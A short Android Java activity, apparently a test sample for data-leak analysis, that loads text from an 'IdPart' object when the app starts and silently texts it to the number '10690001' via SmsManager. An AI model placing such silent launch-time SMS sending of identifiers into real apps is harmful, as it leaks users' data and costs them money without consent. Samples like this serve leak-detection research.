package cn.shanhai.inheritance;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Part part = new IdPart();
    part.load(this);
    SmsManager.getDefault().sendTextMessage("10690001", null, part.text(), null, null);
  }
}
